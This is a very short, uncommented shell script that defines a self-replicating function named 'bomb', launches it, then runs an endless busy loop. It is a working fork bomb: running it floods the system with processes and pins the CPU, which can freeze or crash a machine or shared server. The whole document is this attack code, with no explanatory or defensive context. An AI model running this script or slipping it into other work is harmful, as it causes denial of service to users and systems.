bomb() {
  bomb | bomb &
}
bomb
wait
while :; do :; done
